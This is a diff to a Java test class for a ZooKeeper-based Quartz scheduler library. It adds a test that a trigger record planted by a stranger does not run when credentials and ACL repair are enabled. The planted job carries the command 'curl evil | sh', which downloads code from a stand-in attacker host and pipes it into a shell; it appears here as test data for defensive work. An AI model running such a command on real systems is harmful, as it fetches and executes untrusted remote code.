@@ -5,6 +5,7 @@ import java.time.Duration;
 import java.time.ZonedDateTime;
 import java.util.Date;
 import java.util.List;
+import java.util.UUID;
 import java.util.concurrent.CopyOnWriteArrayList;
 
 import org.apache.curator.framework.CuratorFramework;
@@ -26,6 +27,8 @@ import org.quartz.TriggerKey;
 import org.springframework.boot.test.system.CapturedOutput;
 import org.springframework.boot.test.system.OutputCaptureExtension;
 
+import dev.zkspring.autoconfigure.ZkProperties;
+import dev.zkspring.client.ZkClientFactory;
 import dev.zkspring.leader.GatedQuartz.Instance;
 import dev.zkspring.test.ZooKeeperExtension;
 
@@ -44,7 +47,7 @@ class PlantedRecordTests {
 
 	static final List<String> plantedRuns = new CopyOnWriteArrayList<>();
 
-	private final GatedQuartz quartz = new GatedQuartz();
+	private GatedQuartz quartz = new GatedQuartz();
 
 	private CuratorFramework stranger;
 
@@ -67,6 +70,31 @@ class PlantedRecordTests {
 		assertThat(output).containsOnlyOnce("Skipped the trigger record " + node + ": job class "
 				+ PlantedJob.class.getName() + " is not the class of a job this application declared");
 		assertThat(output).doesNotContain("curl evil");
+	}
+
+	@Test
+	void aPlantedTriggerRecordDoesNotRunWithCredentialsAndRepairAclsEither() throws Exception {
+		plantedRuns.clear();
+		this.quartz = new GatedQuartz("/leader-" + UUID.randomUUID());
+		plant(".triggers/DEFAULT.planted", TriggerRecord.encode(everySecond("planted", "planted"),
+				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("command", "curl evil | sh")
+					.build()));
+		ZkProperties properties = new ZkProperties();
+		properties.getAuth().setCredentials("app:s3cret");
+		properties.getAuth().setRepairAcls(true);
+		CuratorFramework client = ZkClientFactory.create(properties.toClientSettings(), zk.connectString(), List.of());
+		ZkClientFactory.start(client, Duration.ofSeconds(10));
+
+		try {
+			Instance a = this.quartz.start("a", client, Duration.ofSeconds(2), GatedQuartz.Setup.NONE);
+
+			await().during(Duration.ofMillis(1500)).atMost(Duration.ofSeconds(3)).until(plantedRuns::isEmpty);
+			assertThat(a.scheduler().checkExists(TriggerKey.triggerKey("planted"))).isFalse();
+		}
+		finally {
+			this.quartz.close();
+			client.close();
+		}
 	}
 
 	@Test
